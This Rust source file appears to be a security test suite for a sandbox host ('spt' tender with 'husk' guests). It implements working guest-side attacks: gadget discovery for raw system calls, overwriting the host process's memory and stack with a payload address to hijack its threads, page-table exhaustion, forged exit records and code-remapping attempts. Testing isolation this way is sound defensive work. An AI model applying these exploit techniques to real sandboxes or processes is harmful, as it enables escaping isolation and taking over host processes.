//! Attacks of a guest of spt that owns the process: system calls by instructions of the tender, and writes over the tender's
//! memory. The first argument of the program names the attack.

use crate::{peek, peek_word, survived, word};
use core::arch::{asm, naked_asm};
use core::sync::atomic::{AtomicU64, Ordering::SeqCst};
use husk::abi::memory::PAGE;
use husk::boot;

/// Bytes to search for an instruction.
const REACH: u64 = 2 << 20;
/// Bytes on either side of the tender's code in which its data, its heap and the stacks of its threads are.
const AROUND: u64 = 64 << 20;
/// Bytes to overwrite on either side of an address on the first thread's stack.
const STACK: u64 = 1 << 20;
/// Range of addresses in which Linux places that stack.
const STACKS: core::ops::Range<u64> = 0x7ff0_0000_0000..0x8000_0000_0000;

const SYS_WRITE: u64 = 1;
const SYS_MMAP: u64 = 9;
const SYS_RT_SIGPROCMASK: u64 = 14;
const SYS_MREMAP: u64 = 25;
const SYS_GETPID: u64 = 39;
const SYS_EXIT: u64 = 60;
const SYS_EXIT_GROUP: u64 = 231;
const SYS_PPOLL: u64 = 271;
const SYS_PROCESS_VM_READV: u64 = 310;
const SYS_PROCESS_VM_WRITEV: u64 = 311;

/// Carries out the attack that the first argument names.
pub fn attack() {
    GADGET.store(gadget(), SeqCst);
    match word(1) {
        "deaf" => {
            mask(u64::MAX);
            say("deaf\n");
            rest();
        }
        "tables" => tables(),
        "moves" => moves(),
        "exit" => exit(word(2).parse().unwrap_or(1)),
        "write" => write(),
        "fills" => {
            mask(u64::MAX);
            fill();
            say("filled\n");
            rest();
        }
        "listens" => {
            fill();
            mask(0);
            say("filled\n");
            rest();
        }
        // The guest's own thread can exit, because the tender's device thread has been taken over.
        "leaves" => {
            mask(u64::MAX);
            let doorbell = doorbell();
            fill();
            let one = 1_u64;
            call(SYS_WRITE, [doorbell, &raw const one as u64, 8, 0, 0, 0]);
            while TAKEN.load(SeqCst) == 0 {
                core::hint::spin_loop();
            }
            say("filled\n");
            call(SYS_EXIT, [0; 6]);
        }
        other => husk::println!("there is no attack {other}"),
    }
}

/// Address of a `syscall; ret` in the tender, once it is known.
static GADGET: AtomicU64 = AtomicU64::new(0);
/// Threads that have reached [`husk_owner_payload`].
static TAKEN: AtomicU64 = AtomicU64::new(0);

fn gadget() -> u64 {
    let tender = tender();
    let is_call = |at: &u64| [peek(*at), peek(at + 1), peek(at + 2)] == [0x0f, 0x05, 0xc3];
    (tender..tender + REACH).find(is_call).expect("the tender makes calls")
}

/// Returns an address of the tender's code.
fn tender() -> u64 {
    peek_word(boot::info().gate + 8)
}

/// Makes a system call of the kernel.
fn call(number: u64, arguments: [u64; 6]) -> i64 {
    let [a, b, c, d, e, f] = arguments;
    let answer: i64;
    // SAFETY: none: the outcome is what is tested.
    unsafe {
        asm!("call {}", in(reg) GADGET.load(SeqCst), inlateout("rax") number => answer, in("rdi") a, in("rsi") b,
            in("rdx") c, in("r10") d, in("r8") e, in("r9") f, out("rcx") _, out("r11") _)
    };
    answer
}

/// Sets the mask of blocked signals.
fn mask(blocked: u64) {
    const SIG_SETMASK: u64 = 2;
    assert_eq!(call(SYS_RT_SIGPROCMASK, [SIG_SETMASK, &raw const blocked as u64, 0, 8, 0, 0]), 0);
}

/// Prints without the tender, which may not be there any more.
fn say(text: &str) {
    call(SYS_WRITE, [1, text.as_ptr() as u64, text.len() as u64, 0, 0, 0]);
}

fn rest() -> ! {
    loop {
        core::hint::spin_loop();
    }
}

/// Overwrites all writable memory of the tender with the address of [`husk_owner_payload`], so that each return, each
/// handler and each function pointer leads there.
fn fill() {
    let process = call(SYS_GETPID, [0; 6]) as u64;
    let page = [husk_owner_payload as *const () as u64; PAGE as usize / 8];
    let around = tender() & !(PAGE - 1);
    let mut stack = None;
    for at in (around - AROUND..around + AROUND).step_by(PAGE as usize) {
        stack = stack.or_else(|| points_to_stack(process, at));
        overwrite(process, &page, at);
    }
    let stack = stack.expect("the tender knows its environment") & !(PAGE - 1);
    (stack - STACK..stack + STACK).step_by(PAGE as usize).for_each(|at| overwrite(process, &page, at));
    // Clears the tender's flag that the guest runs, so that the tender's handler takes signals wherever this thread is.
    // SAFETY: none: the write is the attack.
    unsafe { (in_guest() as *mut u8).write_volatile(0) };
}

/// Returns the file that the tender's doorbell writes to, in order to wake the tender's second thread.
fn doorbell() -> u64 {
    // mov edi, [rip + …]; lea rsi, [rip + …]
    let loads = |at: &u64| peek_word(*at) as u16 == 0x3d8b && peek_word(at + 6) & 0xff_ffff == 0x35_8d48;
    let load = (tender()..tender() + REACH).find(loads).expect("the tender has a doorbell");
    peek_word((load + 6).wrapping_add_signed((peek_word(load + 2) as i32).into())) & u64::from(u32::MAX)
}

/// Returns the address of the tender's flag that the guest runs, which the gate clears first.
fn in_guest() -> u64 {
    // mov byte ptr [rip + …], 0
    let clears = |at: &u64| peek_word(*at) as u16 == 0x05c6 && peek(at + 6) == 0;
    let clear = (tender()..tender() + REACH).find(clears).expect("the gate notes that it has left the guest");
    (clear + 7).wrapping_add_signed((peek_word(clear + 2) as i32).into())
}

/// Memory as process_vm_readv(2) takes it (an iovec): address and length.
type Part = [u64; 2];

/// Overwrites a page, if it is writable.
fn overwrite(process: u64, page: &[u64], at: u64) {
    let (from, to): (Part, Part) = ([page.as_ptr() as u64, PAGE], [at, PAGE]);
    call(SYS_PROCESS_VM_WRITEV, [process, from.as_ptr() as u64, 1, to.as_ptr() as u64, 1, 0]);
}

/// Returns a word of the page at `at` that is an address of the first thread's stack.
fn points_to_stack(process: u64, at: u64) -> Option<u64> {
    let mut page = [0u64; PAGE as usize / 8];
    let (from, to): (Part, Part) = ([at, PAGE], [page.as_mut_ptr() as u64, PAGE]);
    let answer = call(SYS_PROCESS_VM_READV, [process, to.as_ptr() as u64, 1, from.as_ptr() as u64, 1, 0]);
    let is_there = |address: &u64| {
        let mut byte = [0u8; 8];
        let (from, to): (Part, Part) = ([*address & !7, 8], [byte.as_mut_ptr() as u64, 8]);
        STACKS.contains(address)
            && call(SYS_PROCESS_VM_READV, [process, to.as_ptr() as u64, 1, from.as_ptr() as u64, 1, 0]) == 8
    };
    if answer == PAGE as i64 { page.into_iter().find(is_there) } else { None }
}

/// Blocks all signals, and sleeps for good. Each thread of the tender gets here when it uses the overwritten memory.
#[unsafe(naked)]
extern "C" fn husk_owner_payload() -> ! {
    naked_asm!(
        "lea rsp, [rip + {stack} + 256]",
        "lock inc qword ptr [rip + {taken}]",
        "2:  mov eax, {mask}",
        "    mov edi, 2",
        "    lea rsi, [rip + {all}]",
        "    xor edx, edx",
        "    mov r10d, 8",
        "    call [rip + {gadget}]",
        "    mov eax, {sleep}",
        "    xor edi, edi",
        "    xor esi, esi",
        "    xor edx, edx",
        "    xor r10d, r10d",
        "    mov r8d, 8",
        "    call [rip + {gadget}]",
        "    jmp 2b",
        stack = sym PAYLOAD_STACK,
        taken = sym TAKEN,
        all = sym ALL,
        gadget = sym GADGET,
        mask = const SYS_RT_SIGPROCMASK,
        sleep = const SYS_PPOLL,
    )
}

/// Stack of [`husk_owner_payload`]: it holds return addresses only, so all threads can share it.
static mut PAYLOAD_STACK: [u64; 64] = [0; 64];
static ALL: u64 = u64::MAX;

/// Ends the process as the tender would, with a status of the guest's choice.
fn exit(status: u64) {
    husk::println!("exits");
    call(SYS_EXIT_GROUP, [status, 0, 0, 0, 0, 0]);
}

/// Writes a record to every descriptor that may be open.
fn write() {
    const RECORD: &[u8] = b"{\"version\":1,\"target\":\"hvt\",\"ended\":\"error\",\"status\":125}\n";
    husk::println!("writes");
    for descriptor in 3..1024 {
        call(SYS_WRITE, [descriptor, RECORD.as_ptr() as u64, RECORD.len() as u64, 0, 0, 0]);
    }
}

/// Asks mremap(2) to move the guest's own code, to a place of the kernel's choice and to the tender's code.
fn moves() {
    const EACCES: i64 = 13;
    const MOVE: u64 = 1;
    const FIXED: u64 = 2;
    const LEAVE: u64 = 4;
    let code = moves as *const () as u64 & !(PAGE - 1);
    for flags in [0, MOVE, MOVE | FIXED, MOVE | LEAVE] {
        let answer = call(SYS_MREMAP, [code, PAGE, 4 * PAGE, flags, tender() & !(PAGE - 1), 0]);
        if answer != -EACCES {
            husk::println!("flags {flags}: {answer}");
            return;
        }
    }
    husk::println!("refused");
}

/// Reads a page in each 2 MiB of 64 GiB of read-only memory: the pages cost page tables, and none is counted as data.
fn tables() {
    const LENGTH: u64 = 64 << 30;
    const PROT_READ: u64 = 1;
    /// MAP_PRIVATE, MAP_ANONYMOUS and MAP_NORESERVE.
    const FLAGS: u64 = 0x4022;
    let start = call(SYS_MMAP, [0, LENGTH, PROT_READ, FLAGS, u64::MAX, 0]);
    if start < 0 {
        husk::println!("refused");
        return;
    }
    for address in (start as u64..start as u64 + LENGTH).step_by(2 << 20) {
        peek(address);
    }
    survived();
}
